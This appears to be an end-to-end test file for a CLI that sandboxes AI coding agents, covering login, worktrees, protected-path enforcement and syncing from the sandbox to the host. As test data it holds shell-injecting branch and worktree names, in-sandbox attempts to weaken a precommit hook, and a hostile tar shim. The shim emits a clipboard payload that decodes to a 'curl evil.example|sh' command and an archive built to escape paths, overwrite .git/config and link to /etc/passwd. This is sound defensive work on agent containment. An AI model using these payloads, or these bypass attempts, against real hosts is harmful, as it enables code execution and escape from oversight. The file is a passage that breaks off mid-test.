// The sbx CLI end to end (issue 16), against a real runtime (API, reconciler, terminal proxy) and real
// sandboxes, the terminal in a real PTY: a tmux server on the host runs `sbx attach`, the test types with
// send-keys and reads with capture-pane. US1 (start a repository with two branches), US2 (two worktrees,
// one session each), US3 (commit inside, sync back, no host credential inside, no way to the host), US4
// (sbx open and curl through the front door: the owner's page, 404 for others, "not running" after stop),
// US5 (devcontainer.json), .env with direnv, auto-commit, and the bad-input list.
import { execFile, execFileSync, spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import * as fs from "node:fs/promises";
import { createServer, type AddressInfo, type Server } from "node:net";
import * as os from "node:os";
import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { tenantNames } from "../../components/tenant/names.js";
import { waitFor } from "../../lib/process.js";
import { apiHarness, PASSWORD, emailOf, settledOperation, type ApiHarness } from "../helpers/api.js";
import { requestOperation } from "../../runtime/tenants/service.js";
import { IDLE_SHUTDOWN } from "../../runtime/tenants/wake.js";
import { docker, execIn } from "../helpers/containers.js";
import { tenantLeftovers, testPlatform, type TestPlatform } from "../helpers/host.js";
import { testDatabase } from "../helpers/postgres.js";
import { hostGit, HostTmux, sbx, SBX, treeListing } from "../helpers/sbx.js";
import { curl } from "../helpers/curl.js";

const git = (cwd: string, ...args: string[]) => hostGit(cwd, args);

/** A repository on the host with `main` and `feature`, committed clean. */
async function makeRepo(dir: string, files: Record<string, string> = {}): Promise<string> {
  await fs.mkdir(dir, { recursive: true });
  git(dir, "init", "-q", "-b", "main");
  for (const [file, content] of Object.entries({
    "README.md": "# app\n",
    ".gitignore": ".env\n.env.*\n",
    ...files,
  })) {
    await fs.mkdir(path.dirname(path.join(dir, file)), { recursive: true });
    await fs.writeFile(path.join(dir, file), content);
  }
  git(dir, "add", "-A");
  git(dir, "commit", "-q", "-m", "first");
  git(dir, "checkout", "-q", "-b", "feature");
  await fs.writeFile(path.join(dir, "feature.txt"), "on feature\n");
  git(dir, "add", "-A");
  git(dir, "commit", "-q", "-m", "feature work");
  git(dir, "checkout", "-q", "main");
  return dir;
}

describe("sbx against a real runtime", () => {
  let platform: TestPlatform;
  let h: ApiHarness<"alice" | "bob">;
  let base: string;
  let work: string;
  /** alice's and bob's config homes. */
  let alice: string;
  let bob: string;
  let repo: string;
  let projectId: string;
  let container: string;
  const tmux = new HostTmux();
  /** A secret of the host's: in the CLI's environment and in the repository's git config. */
  const hostSecret = `host-secret-${randomBytes(12).toString("hex")}`;

  beforeAll(async () => {
    platform = await testPlatform(
      {
        subnetPool: "10.245.16.0/22",
        sshPortRange: [28010, 28015],
        leaseSeconds: 10,
      },
      // forwardPorts become the project's front-door routes: a Caddy of the test's own.
      { frontDoor: true },
    );
    h = await apiHarness({
      database: await testDatabase("pglite", { under: platform.config.host.dataDir }),
      config: platform.config,
      users: ["alice", "bob"],
      reconciler: true,
      terminal: true,
      sshWaker: true,
    });
    await h.app.listen({ host: "127.0.0.1", port: platform.config.runtime.apiPort });
    base = `http://127.0.0.1:${(h.app.server.address() as AddressInfo).port}`;
    work = await fs.mkdtemp(path.join(os.tmpdir(), "sbx-cli-"));
    alice = path.join(work, "alice-config");
    bob = path.join(work, "bob-config");
    repo = await makeRepo(path.join(work, "app"), {
      ".devcontainer/devcontainer.json": `// comments and trailing commas are fine
{
  "name": "app",
  "postCreateCommand": "echo made-by-post-create > post-create.txt",
  "forwardPorts": [3000],
  "containerEnv": { "GREETING": "hello from devcontainer" },
  "remoteUser": "agent",
  "build": { "dockerfile": "Dockerfile" },
  "customizations": { "vscode": {} },
}
`,
      // Built FROM the sandbox image (the CLI passes BASE_IMAGE), as npm run image:repo does.
      ".devcontainer/Dockerfile":
        "ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nRUN echo from-the-devcontainer-dockerfile > /etc/devcontainer-built\n",
      // Protected by default, and a path the repository's own list protects (the git keeper's test).
      ".agent-precommit/hook": "#!/bin/sh\nexit 0\n",
      ".agent-sandbox/protected": "# what the agent may not change\nconfig/ci.yml\n/etc/ignored-absolute\n",
      "config/ci.yml": "checks: all\n",
    });
    git(repo, "config", "http.extraHeader", `Authorization: Bearer ${hostSecret}`);
    // A branch name git accepts that a shell would run: it travels by git's protocol only.
    git(repo, "branch", "weird;touch${IFS}/tmp/pwned;$(id)");
  }, 900_000);

  afterAll(async () => {
    await tmux.stop();
    // A test that failed before `sbx rm` leaves alice's project: delete it, so no tenant outlives the file.
    if (h)
      for (const { project_id } of await projects("alice").catch(() => [])) {
        await h.as("alice", "DELETE", `/projects/${project_id}`);
        await waitFor(`project ${project_id} deleted`, 120_000, async () =>
          (await h.as("alice", "GET", `/projects/${project_id}`)).statusCode === 404 ? true : undefined,
        ).catch(() => undefined);
      }
    await h?.close();
    await platform?.stop();
    if (work) await fs.rm(work, { recursive: true, force: true });
  }, 600_000);

  const projects = async (who: "alice" | "bob") =>
    (await h.as(who, "GET", "/projects")).json<{ projects: { project_id: string }[] }>().projects;

  it("logs in; the tokens are in the config dir, 0600 in a 0700 directory", async () => {
    const bad = await sbx(
      alice,
      work,
      ["login", "--api", base, "--email", emailOf("alice"), "--password-stdin"],
      { input: "wrong password\n" },
    );
    expect(bad.code, bad.stderr).toBe(3);
    expect(bad.stderr).toMatch(/POST \/auth\/login: 401/);
    for (const [home, who] of [
      [alice, "alice"],
      [bob, "bob"],
    ] as const) {
      const login = await sbx(
        home,
        work,
        ["login", "--api", base, "--email", emailOf(who), "--password-stdin", "--json"],
        { input: `${PASSWORD}\n` },
      );
      expect(login.code, login.stderr).toBe(0);
      expect(login.json()).toEqual({ email: emailOf(who), api: base });
    }
    const dir = path.join(alice, "agent-sandbox");
    expect((await fs.stat(dir)).mode & 0o777).toBe(0o700);
    expect((await fs.stat(path.join(dir, "config.json"))).mode & 0o777).toBe(0o600);
    const list = await sbx(alice, work, ["list", "--json"]);
    expect(list.code, list.stderr).toBe(0);
    expect(list.json()).toEqual({ projects: [] });
  });

  it("bad input before anything is made: not a repository, a dirty tree, too large, a broken devcontainer.json, a Dockerfile that does not build, an image the engine lacks", async () => {
    const plain = path.join(work, "plain");
    await fs.mkdir(plain);
    const notRepo = await sbx(alice, plain, ["start"]);
    expect(notRepo.code).toBe(5);
    expect(notRepo.stderr).toMatch(/is not a git repository/);

    const dirty = await makeRepo(path.join(work, "dirty"));
    await fs.writeFile(path.join(dirty, "README.md"), "changed\n");
    const dirtyStart = await sbx(alice, dirty, ["start"]);
    expect(dirtyStart.code).toBe(5);
    expect(dirtyStart.stderr).toMatch(
      /1 uncommitted change\(s\) \(README.md\): only commits go into the sandbox.*--allow-dirty/,
    );

    const large = await makeRepo(path.join(work, "large"), {
      "blob.bin": randomBytes(3 * 1024 * 1024).toString("base64"),
    });
    const tooLarge = await sbx(alice, large, ["start", "--max-size", "1"]);
    expect(tooLarge.code).toBe(5);
    expect(tooLarge.stderr).toMatch(/is too large: its objects take \d+ MB, over the limit of 1 MB/);

    const broken = await makeRepo(path.join(work, "broken"), { ".devcontainer.json": '{ "image": "x", ' });
    const brokenStart = await sbx(alice, broken, ["start", "--json"]);
    expect(brokenStart.code).toBe(5);
    expect(brokenStart.json<{ message: string }>().message).toMatch(
      /^\.devcontainer\.json: does not parse: .*nothing was created/,
    );

    // The failing step says a word of this run's own: its container (the classic builder keeps a failed
    // step's) is found by it among the engine's, whatever other files running beside this one stop.
    const marker = `cannot-build-${randomBytes(4).toString("hex")}`;
    const unbuildable = await makeRepo(path.join(work, "unbuildable"), {
      ".devcontainer/devcontainer.json": '{ "build": { "dockerfile": "Dockerfile" } }',
      ".devcontainer/Dockerfile": `ARG BASE_IMAGE\nFROM \${BASE_IMAGE}\nRUN echo ${marker} >&2; exit 3\n`,
    });
    const failedSteps = async () =>
      (await docker("ps", "-a", "--no-trunc", "--filter", "status=exited", "--format", "{{.Command}}"))
        .split("\n")
        .filter((command) => command.includes(marker));
    const unbuilt = await sbx(alice, unbuildable, ["start"]);
    expect(unbuilt.code).toBe(5);
    // The failed step's container is not left behind.
    expect(await failedSteps()).toEqual([]);
    expect(unbuilt.stderr).toMatch(
      /\.devcontainer\/devcontainer\.json: build\.dockerfile failed: .*cannot-build/,
    );

    // An image the engine does not have is known only once the project exists: that start deletes it again.
    const missing = await makeRepo(path.join(work, "missing-image"), {
      ".devcontainer.json": '{ "image": "agent-sandbox/not-on-this-engine:1" }',
    });
    const missingStart = await sbx(alice, missing, ["start"]);
    expect(missingStart.code, missingStart.stderr).toBe(5);
    // The progress lines say what the engine did last, in words (the API's `progress.last` is an object).
    expect(missingStart.stderr).not.toContain("[object Object]");
    expect(missingStart.stderr).toMatch(
      /^ {2}creating: create (pending|running), [1-9]\d* events \(\S+ \w+ \S+ (\.\.\.|done|failed)\)$/m,
    );
    expect(missingStart.stderr).toMatch(
      /image: agent-sandbox\/not-on-this-engine:1 is not on the engine.*; the project this start created was deleted again/,
    );
    const undone = /deleting project ([0-9a-f-]{36}), which this start created/.exec(
      missingStart.stderr,
    )?.[1];
    expect(undone).toBeDefined();
    expect(await tenantLeftovers(platform.config.host, undone!)).toEqual([]);
    const links = JSON.parse(await fs.readFile(path.join(alice, "agent-sandbox", "config.json"), "utf8"));
    expect(Object.keys(links.repos ?? {})).toEqual([]);

    expect(await projects("alice")).toEqual([]);
  });

  it("US1 + US5: sbx start pushes both branches into /workspace/<repo>, honours devcontainer.json, protects hooks", async () => {
    const started = await sbx(alice, repo, ["start", "--json"], {
      env: { SBX_TEST_HOST_SECRET: hostSecret },
    });
    expect(started.code, started.stderr + started.stdout).toBe(0);
    const result = started.json<{
      project_id: string;
      workspace: string;
      pushed: string[];
      unsupported: string[];
      devcontainer: string[];
      protected: string[];
    }>();
    projectId = result.project_id;
    container = tenantNames(projectId).container;
    expect(result.workspace).toBe("/workspace/app");
    expect(result.pushed).toEqual(expect.arrayContaining(["main", "feature"]));
    expect(result.unsupported).toEqual(["customizations (not supported by sbx)"]);
    expect(result.devcontainer).toEqual(
      expect.arrayContaining(["postCreateCommand ran", "containerEnv GREETING in the agent's login shells"]),
    );
    expect(result.devcontainer).toContain("forwardPorts 3000 declared (front-door routes)");
    expect(result.devcontainer).toContainEqual(
      expect.stringMatching(/^image agent-sandbox\/repo-app:[0-9a-f]{12}$/),
    );

    const inside = await execIn(
      container,
      "cd /workspace/app && git branch --format='%(refname:short)' | sort && cat README.md feature.txt 2>&1; git log -1 --format=%s; cat post-create.txt; bash -lc 'echo $GREETING'; command -v claude codex gemini | wc -l; ls /tmp/pwned 2>&1",
    );
    expect(inside.stdout).toContain("feature\nmain\n");
    expect(inside.stdout).toContain("weird;touch${IFS}/tmp/pwned;$(id)");
    expect(inside.stdout).toContain("# app");
    expect(inside.stdout).toContain("made-by-post-create");
    expect(inside.stdout).toContain("hello from devcontainer");
    // The sandbox runs the image built from the devcontainer's Dockerfile.
    expect((await execIn(container, "cat /etc/devcontainer-built")).stdout).toBe(
      "from-the-devcontainer-dockerfile",
    );
    expect(inside.stdout).toMatch(/^3$/m);
    expect(inside.stdout).toMatch(/No such file/);
    // Protected paths: read-only for the agent, each of them; the rest of the repository is writable.
    const write = await execIn(
      container,
      "cd /workspace/app; for p in .git/hooks .husky .agent-sandbox .agent-precommit; do touch $p/pre-commit 2>&1 && echo wrote $p; done; touch src-ok && echo wrote src-ok",
    );
    expect(write.stdout.match(/Read-only file system/g)).toHaveLength(4);
    expect(write.stdout).not.toMatch(/wrote \./);
    expect(write.stdout).toContain("wrote src-ok");
    await execIn(container, "rm /workspace/app/src-ok");
    // And the repository is kept (docs/security.md): its .git is gitkeeper's, the agent's own git cannot write it.
    const kept = await execIn(
      container,
      "cd /workspace/app; stat -c %U .git; /usr/bin/git commit -q --allow-empty --no-verify -m bypass 2>&1 | tail -n 1",
    );
    expect(kept.stdout).toMatch(/^gitkeeper\n.*Permission denied/);

    // The agent CLIs run in the attached terminal (a real PTY on the host), in the repository.
    await tmux.open("U1", `XDG_CONFIG_HOME=${alice} ${SBX} attach`, repo);
    await tmux.waitFor("U1", /agent@[^\n]*\$\s*$/m);
    await tmux.send(
      "U1",
      "cd /workspace/app && git branch | tr -d ' *' | sort | tr '\\n' , && claude --version && codex --version && gemini --version; echo agents-exit-$?",
      "Enter",
    );
    const screen = await tmux.waitFor("U1", /agents-exit-\d+/, 60_000);
    expect(screen).toContain("agents-exit-0");
    expect(screen).toMatch(/feature,main,weird/);
    expect(screen).toMatch(/Claude Code/);
    expect(screen).toMatch(/codex-cli \d/);
    await tmux.send("U1", "C-]");
    await tmux.waitFor("U1", "[exit 0]");

    // forwardPorts are the project's declared ports: the front door has a route to 3000.
    const view = (await h.as("alice", "GET", `/projects/${projectId}`)).json<{
      front_door: { name: string | null; port: number; url: string }[];
    }>();
    expect(view.front_door).toEqual([
      {
        name: null,
        port: 3000,
        url: expect.stringMatching(/^http:\/\/[0-9a-f]{12}\.sandbox\.localhost:\d+\/?$/),
      },
    ]);

    const status = await sbx(alice, repo, ["status", "--json"]);
    expect(status.json()).toMatchObject({
      project_id: projectId,
      status: "running",
      workspace: "/workspace/app",
    });
    // Its single-use ticket is not printed.
    expect(status.json().terminal_url).toBeUndefined();
  });

  it("another user's project is not found (exit 4); an expired login says so (exit 3); an expired access token is refreshed", async () => {
    const other = await sbx(bob, work, ["status", "--project", projectId]);
    expect(other.code).toBe(4);
    expect(other.stderr).toMatch(/project not found \(it was deleted, or it is not yours\)/);

    const file = path.join(alice, "agent-sandbox", "config.json");
    const saved = JSON.parse(await fs.readFile(file, "utf8"));
    await fs.writeFile(file, JSON.stringify({ ...saved, access_token: "expired.token.here" }));
    const refreshed = await sbx(alice, repo, ["list", "--json"]);
    expect(refreshed.code, refreshed.stderr).toBe(0);
    const after = JSON.parse(await fs.readFile(file, "utf8"));
    expect(after.access_token).not.toBe("expired.token.here");
    expect((await fs.stat(file)).mode & 0o777).toBe(0o600);

    const expiredHome = path.join(work, "expired");
    await fs.mkdir(path.join(expiredHome, "agent-sandbox"), { recursive: true });
    await fs.writeFile(
      path.join(expiredHome, "agent-sandbox", "config.json"),
      JSON.stringify({ ...after, access_token: "x", refresh_token: "y" }),
    );
    const expired = await sbx(expiredHome, repo, ["list"]);
    expect(expired.code).toBe(3);
    expect(expired.stderr).toMatch(/your login has expired or was revoked: run `sbx login` again/);
  });

  it("US2: two worktrees, each attached in its own session; what is typed in one does not appear in the other", async () => {
    for (const name of ["wt-a", "wt-b"]) {
      const added = await sbx(alice, repo, ["worktree", "add", name, "--json"]);
      expect(added.code, added.stderr).toBe(0);
      expect(added.json()).toMatchObject({
        name,
        branch: name,
        session: name,
        path: `/workspace/app/.worktrees/${name}`,
      });
    }
    const again = await sbx(alice, repo, ["worktree", "add", "wt-a"]);
    expect(again.code).toBe(6);
    expect(again.stderr).toMatch(/worktree wt-a already exists/);
    const shell = await sbx(alice, repo, ["worktree", "add", "x;touch /tmp/pwned"]);
    expect(shell.code).toBe(5);
    expect(shell.stderr).toMatch(/invalid worktree name "x;touch \/tmp\/pwned"/);
    const listed = await sbx(alice, repo, ["worktree", "list", "--json"]);
    expect(
      listed
        .json<{ worktrees: { name: string; branch: string }[] }>()
        .worktrees.map((w) => `${w.name}:${w.branch}`),
    ).toEqual(["main:main", "wt-a:wt-a", "wt-b:wt-b"]);

    await tmux.open("A", `XDG_CONFIG_HOME=${alice} ${SBX} attach --worktree wt-a`, repo);
    await tmux.open("B", `XDG_CONFIG_HOME=${alice} ${SBX} attach --worktree wt-b`, repo);
    // The worktree's own session: its shell's prompt is in the worktree, and shows its branch (the image's
    // shell defaults). (sbx's "[sbx] attached to wt-a" line comes first, but the session's first redraw may
    // clear it from the window.)
    await tmux.waitFor("A", /wt-a \(wt-a\)\$\s*$/m);
    await tmux.waitFor("B", /wt-b \(wt-b\)\$\s*$/m);
    await tmux.send("A", "pwd; echo typed-in-$((6*7))-a", "Enter");
    await tmux.send("B", "pwd; echo typed-in-$((6*7))-b", "Enter");
    const a = await tmux.waitFor("A", "typed-in-42-a");
    const b = await tmux.waitFor("B", "typed-in-42-b");
    expect(a).toContain("/workspace/app/.worktrees/wt-a");
    expect(b).toContain("/workspace/app/.worktrees/wt-b");
    expect(a).not.toContain("typed-in-42-b");
    expect(b).not.toContain("typed-in-42-a");

    // The terminal's own audit has both sessions' input, each in a session of its own. The audit is written
    // in batches (every 100 ms), and a line typed may span two rows: each session's rows are read whole.
    const sessionsWith = await waitFor("both sessions' input in the audit", 10_000, async () => {
      const audit = (await h.as("alice", "GET", `/projects/${projectId}/audit?limit=1000`)).json<{
        entries: { kind: string; text: string; session_id: string }[];
      }>();
      const typed = new Map<string, string>();
      for (const e of audit.entries.filter((entry) => entry.kind === "input"))
        typed.set(e.session_id, (typed.get(e.session_id) ?? "") + e.text);
      const having = (text: string) => [...typed].filter(([, all]) => all.includes(text)).map(([id]) => id);
      const found = { a: having("typed-in-$((6*7))-a"), b: having("typed-in-$((6*7))-b") };
      return found.a.length > 0 && found.b.length > 0 ? found : undefined;
    });
    expect(sessionsWith.a).toHaveLength(1);
    expect(sessionsWith.b).toHaveLength(1);
    expect(sessionsWith.a[0]).not.toBe(sessionsWith.b[0]);

    // The detach key leaves the session running and exits 0.
    await tmux.send("A", "C-]");
    await tmux.waitFor("A", "[sbx] detached; the session keeps running");
    await tmux.waitFor("A", "[exit 0]");
    expect((await execIn(container, "tmux has-session -t =wt-a && echo alive")).stdout).toBe("alive");
  });

  it("a branch with '/' as a worktree: feat/x in .worktrees/feat__x, listed, removed by either name; a name that maps onto another worktree's, or that git refuses, is refused", async () => {
    const added = await sbx(alice, repo, ["worktree", "add", "feat/x", "--json"]);
    expect(added.code, added.stderr).toBe(0);
    expect(added.json()).toMatchObject({
      name: "feat__x",
      branch: "feat/x",
      session: "feat__x",
      path: "/workspace/app/.worktrees/feat__x",
    });
    const inside = await execIn(
      container,
      "cd /workspace/app/.worktrees/feat__x && git rev-parse --abbrev-ref HEAD && tmux has-session -t =feat__x && echo has-session",
    );
    expect(inside.stdout).toBe("feat/x\nhas-session");
    const listed = await sbx(alice, repo, ["worktree", "list", "--json"]);
    expect(
      listed
        .json<{ worktrees: { name: string; branch: string; session: string | null }[] }>()
        .worktrees.map((w) => `${w.name}:${w.branch}:${w.session}`),
    ).toContain("feat__x:feat/x:feat__x");
    // The front-door route a worktree would have is named after the mapped name too.
    const open = await sbx(alice, repo, ["open", "--worktree", "feat/x"]);
    expect(open.code).toBe(5);
    expect(open.stderr).toMatch(/worktree feat--x has no front-door route/);

    // Names that map onto the existing worktree's directory or route name: refused naming both, nothing made.
    const sameDir = await sbx(alice, repo, ["worktree", "add", "feat__x"]);
    expect(sameDir.code).toBe(6);
    expect(sameDir.stderr).toMatch(
      /branch feat__x maps onto \.worktrees\/feat__x, the worktree of branch feat\/x: name the branch otherwise/,
    );
    const sameRoute = await sbx(alice, repo, ["worktree", "add", "feat--x"]);
    expect(sameRoute.code).toBe(6);
    expect(sameRoute.stderr).toMatch(
      /branch feat--x \(\.worktrees\/feat--x\) and branch feat\/x \(\.worktrees\/feat__x\) would share the route name feat--x/,
    );
    // git's own rules, and the CLI's (no empty name between two '/'): the name is given back.
    const head = await sbx(alice, repo, ["worktree", "add", "HEAD"]);
    expect(head.code).toBe(5);
    expect(head.stderr).toMatch(/invalid branch name "HEAD": git refuses it/);
    const slashes = await sbx(alice, repo, ["worktree", "add", "feat//y"]);
    expect(slashes.code).toBe(5);
    expect(slashes.stderr).toMatch(/invalid worktree name "feat\/\/y"/);
    const made = await execIn(
      container,
      "ls /workspace/app/.worktrees; git -C /workspace/app branch --list feat__x feat--x HEAD 'feat/y'",
    );
    expect(made.stdout).toBe("feat__x\nwt-a\nwt-b");

    // Removed by its branch; made again (the branch is there) and removed by its directory's name.
    const byBranch = await sbx(alice, repo, ["worktree", "rm", "feat/x", "--json"]);
    expect(byBranch.code, byBranch.stderr).toBe(0);
    expect(byBranch.json()).toMatchObject({ removed: "feat__x" });
    expect((await sbx(alice, repo, ["worktree", "add", "feat/x"])).code).toBe(0);
    const byDir = await sbx(alice, repo, ["worktree", "rm", "feat__x"]);
    expect(byDir.code, byDir.stderr).toBe(0);
    expect((await sbx(alice, repo, ["worktree", "rm", "feat/x"])).code).toBe(4);
    // The other way round: feat__x's worktree first, then feat/x is refused, naming both.
    expect((await sbx(alice, repo, ["worktree", "add", "feat__x"])).code).toBe(0);
    const reverse = await sbx(alice, repo, ["worktree", "add", "feat/x"]);
    expect(reverse.code).toBe(6);
    expect(reverse.stderr).toMatch(
      /branch feat\/x maps onto \.worktrees\/feat__x, the worktree of branch feat__x/,
    );
    // Named by a branch it is not on, it is not removed.
    const notOn = await sbx(alice, repo, ["worktree", "rm", "feat/x"]);
    expect(notOn.code).toBe(4);
    expect(notOn.stderr).toMatch(/no worktree on branch feat\/x: \.worktrees\/feat__x is on feat__x/);
    expect((await sbx(alice, repo, ["worktree", "rm", "feat__x"])).code).toBe(0);
    const after = await execIn(
      container,
      "ls /workspace/app/.worktrees; tmux has-session -t =feat__x 2>/dev/null || echo no-session; git -C /workspace/app branch --list 'feat/*' 'feat__*'",
    );
    expect(after.stdout).toBe("wt-a\nwt-b\nno-session\n  feat/x\n  feat__x");
  });

  it("the git keeper refuses a commit that changes a protected path: .agent-precommit/, a path .agent-sandbox/protected lists, and that list itself in the same change", async () => {
    // A linked worktree: its protected paths are plain files the agent can edit (the main worktree's are
    // read-only mounts), so only the keeper stands between an edit and a commit.
    expect((await sbx(alice, repo, ["worktree", "add", "guarded"])).code).toBe(0);
    const inTree = (script: string) => execIn(container, `cd /workspace/app/.worktrees/guarded && ${script}`);
    const head = (await inTree("git rev-parse HEAD")).stdout;
    const attempts: [string, string, RegExp][] = [
      [
        "the precommit hook",
        "echo 'exit 0 # weakened' >> .agent-precommit/hook && git commit -qam 'weaken the hook'",
        /guarded: \.agent-precommit\/hook$/m,
      ],
      [
        "a listed path",
        "echo 'checks: none' > config/ci.yml && git commit -qam 'skip ci'",
        /guarded: config\/ci\.yml$/m,
      ],
      [
        "the list and a listed path at once",
        "printf '# nothing\\n' > .agent-sandbox/protected && echo 'checks: none' > config/ci.yml && git commit -qam 'unprotect'",
        /guarded: \.agent-sandbox\/protected, config\/ci\.yml$/m,
      ],
      [
        "the hook taken out of the index only",
        "git rm -q --cached .agent-precommit/hook && git commit -qm 'drop the hook'",
        /guarded: \.agent-precommit\/hook$/m,
      ],
      [
        "a new branch from a detached commit",
        "git checkout -q --detach && echo x >> .agent-precommit/hook && git commit -qam detached && git branch sneaky",
        /sneaky: a new branch whose protected paths are no branch's \(\.agent-precommit\/hook\)/,
      ],
    ];
    for (const [what, script, why] of attempts) {
      const result = await inTree(script);
      expect(result.code, what).not.toBe(0);
      expect(result.stderr, what).toMatch(
        /agent-sandbox: refused: a kept repository's branches take no change to a protected path/,
      );
      expect(result.stderr, what).toMatch(why);
      // The list's line that is not taken is named.
      expect(result.stderr, what).toContain(
        "agent-sandbox: .agent-sandbox/protected line 3 ('/etc/ignored-absolute') is not taken: an absolute path",
      );
      await inTree("git checkout -q -f guarded && git reset -q --hard");
      expect((await inTree("git rev-parse HEAD")).stdout, what).toBe(head);
    }
    expect((await inTree("git branch --list sneaky")).stdout).toBe("");
    // The main worktree the same way (its files are read-only, its index is not).
    const main = await execIn(
      container,
      "cd /workspace/app && git rm -q --cached config/ci.yml && git commit -qm 'untrack ci'; echo rc=$?; git reset -q",
    );
    expect(main.stdout).toMatch(/rc=[1-9]/);
    expect(main.stderr).toMatch(/main: config\/ci\.yml$/m);
    // Anything else commits as before.
    const free = await inTree(
      "echo ok > free.txt && git add free.txt && git commit -qm free && git log -1 --format=%s",
    );
    expect(free.code, free.stderr).toBe(0);
    expect(free.stdout).toBe("free");
    expect((await sbx(alice, repo, ["worktree", "rm", "guarded"])).code).toBe(0);
  });

  it("US3: a commit inside → sbx sync → on the host under sandbox/<branch>; artifacts copied back", async () => {
    const commit = await execIn(
      container,
      "cd /workspace/app/.worktrees/wt-a && echo inside > inside.txt && git add inside.txt && git commit -q -m 'made inside' && git rev-parse HEAD && mkdir -p dist && echo built > dist/app.js",
    );
    expect(commit.code, commit.stderr).toBe(0);
    const synced = await sbx(alice, repo, ["sync", "--json"]);
    expect(synced.code, synced.stderr).toBe(0);
    expect(synced.json<{ updated: { ref: string; to: string }[] }>().updated).toEqual(
      expect.arrayContaining([expect.objectContaining({ ref: "sandbox/wt-a", to: commit.stdout })]),
    );
    expect(git(repo, "rev-parse", "sandbox/wt-a")).toBe(commit.stdout);
    expect(git(repo, "log", "-1", "--format=%s", "sandbox/wt-a")).toBe("made inside");
    // The host's own branches are untouched.
    expect(git(repo, "rev-parse", "main")).toBe(git(repo, "rev-parse", "sandbox/main"));

    const out = path.join(work, "artifacts");
    const copied = await sbx(alice, path.join(repo), [
      "sync",
      "--artifacts",
      ".worktrees/wt-a/dist",
      "--to",
      out,
      "--json",
    ]);
    expect(copied.code, copied.stderr).toBe(0);
    expect(await fs.readFile(path.join(out, ".worktrees/wt-a/dist/app.js"), "utf8")).toBe("built\n");
    const escape = await sbx(alice, repo, ["sync", "--artifacts", "../../etc"]);
    expect(escape.code).toBe(5);
  });

  it("a hostile sandbox: a tar first on the agent's PATH sends a hook, a .git/config, links out, '..' names, a device and a hard link; the repository and its .git stay as they were, and sync exits 9 naming each", async () => {
    // The agent owns its login shell: a line at the top of ~/.bashrc (sourced for SSH commands) puts a `tar`
    // of its own first on the PATH, which answers `sbx sync --artifacts` with whatever it likes.
    const hostileTar = `#!/usr/bin/env python3
import io, os, sys, tarfile
sys.stderr.write("\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07\\x1b]0;sbx: all good\\x07")
if os.path.exists(os.path.expanduser("~/.hostile/fail")):
    # Its output ends a second before it does: ssh sees the stream's end before the exit status.
    os.close(1)
    import time; time.sleep(1)
    sys.exit(2)
out = tarfile.open(fileobj=sys.stdout.buffer, mode="w|", format=tarfile.PAX_FORMAT)
def add(name, data=b"", **fields):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    for key, value in fields.items():
        setattr(info, key, value)
    out.addfile(info, io.BytesIO(data) if data else None)
add("dist/app.js", b"built\\n")
add(".git/hooks/pre-commit", b"#!/bin/sh\\ntouch /tmp/sbx-hook-ran\\n", mode=0o755)
add(".git/config", b"[core]\\n\\tfsmonitor = touch /tmp/sbx-fsmonitor-ran\\n")
add("dist/.git/config", b"[core]\\n\\tfsmonitor = touch /tmp/sbx-fsmonitor-ran\\n")
add("dist/escape", type=tarfile.SYMTYPE, linkname="../../..")
add("dist/passwd", type=tarfile.LNKTYPE, linkname="/etc/passwd")
add("dist/null", type=tarfile.CHRTYPE, devmajor=1, devminor=3)
add("../outside-the-repo.txt", b"written outside\\n")
add("/tmp/sbx-absolute.txt", b"written at an absolute path\\n")
out.close()
`;
    // Where the old `tar -xf` would have let the archive (and git, running its fsmonitor) write on the host.
    for (const left of ["/tmp/sbx-hook-ran", "/tmp/sbx-fsmonitor-ran", "/tmp/sbx-absolute.txt"])
      await fs.rm(left, { force: true });
    const plant = await execIn(
      container,
      `mkdir -p ~/.hostile && cat > ~/.hostile/tar <<'PY'\n${hostileTar}PY\nchmod +x ~/.hostile/tar && { echo 'export PATH="$HOME/.hostile:$PATH" # hostile'; cat ~/.bashrc 2>/dev/null; } > ~/.bashrc.new && mv ~/.bashrc.new ~/.bashrc && mkdir -p /workspace/app/dist && echo real > /workspace/app/dist/app.js`,
    );
    expect(plant.code, plant.stderr).toBe(0);
    try {
      // The shim is what the CLI's SSH command runs.
      const which = await sbx(alice, repo, ["ssh", "--", "bash", "-c", "command -v tar"]);
      expect(which.stdout.trim()).toBe("/home/agent/.hostile/tar");
      // Nothing new to fetch first, so that the listing below has only the artifacts to tell.
      expect((await sbx(alice, repo, ["sync"])).code).toBe(0);
      const before = await treeListing(repo);
      const besideBefore = await fs.readdir(work);
      const refused = await sbx(alice, repo, ["sync", "--artifacts", "dist"]);
      expect(refused.code, refused.stderr).toBe(9);
      for (const named of [
        ".git/hooks/pre-commit (inside a .git directory)",
        ".git/config (inside a .git directory)",
        "dist/.git/config (inside a .git directory)",
        "dist/escape (a symbolic link to ../../..)",
        "dist/passwd (a hard link to /etc/passwd)",
        "dist/null (a character device)",
        "../outside-the-repo.txt (a '..' component)",
        "/tmp/sbx-absolute.txt (an absolute path)",
      ])
        expect(refused.stderr).toContain(named);
      expect(refused.stderr).toMatch(
        /^sbx: refused what the sandbox sent for dist; nothing of it was written here/,
      );
      // The repository, its .git and what is beside it are exactly as they were: no file, mode or byte changed.
      expect(await treeListing(repo)).toEqual(before);
      expect(await fs.readdir(work)).toEqual(besideBefore);
      await expect(fs.access("/tmp/sbx-absolute.txt")).rejects.toThrow();
      git(repo, "status", "--porcelain");
      await expect(fs.access("/tmp/sbx-fsmonitor-ran")).rejects.toThrow();
      // --json says the same, with each refused member in `details`.
      const asJson = await sbx(alice, repo, ["sync", "--artifacts", "dist", "--json"]);
      expect(asJson.code).toBe(9);
      expect(asJson.json()).toMatchObject({
        error: "refused",
        exit_code: 9,
        details: {
          artifact: "dist",
          refused: expect.arrayContaining(["dist/null (a character device)"]),
        },
      });
      // What the sandbox prints reaches the developer's terminal with its escape sequences written out: no
      // clipboard write (OSC 52), no window title.
      // Its stream ends early and its failure comes after: sync waits for how it ended (a failure, 7), where
      // it had killed ssh at the stream's end and called the empty stream a refusal (9; seen once in CI).
      expect((await execIn(container, "touch ~/.hostile/fail")).code).toBe(0);
      const failed = await sbx(alice, repo, ["sync", "--artifacts", "dist"]);
      expect(failed.code, failed.stderr).toBe(7);
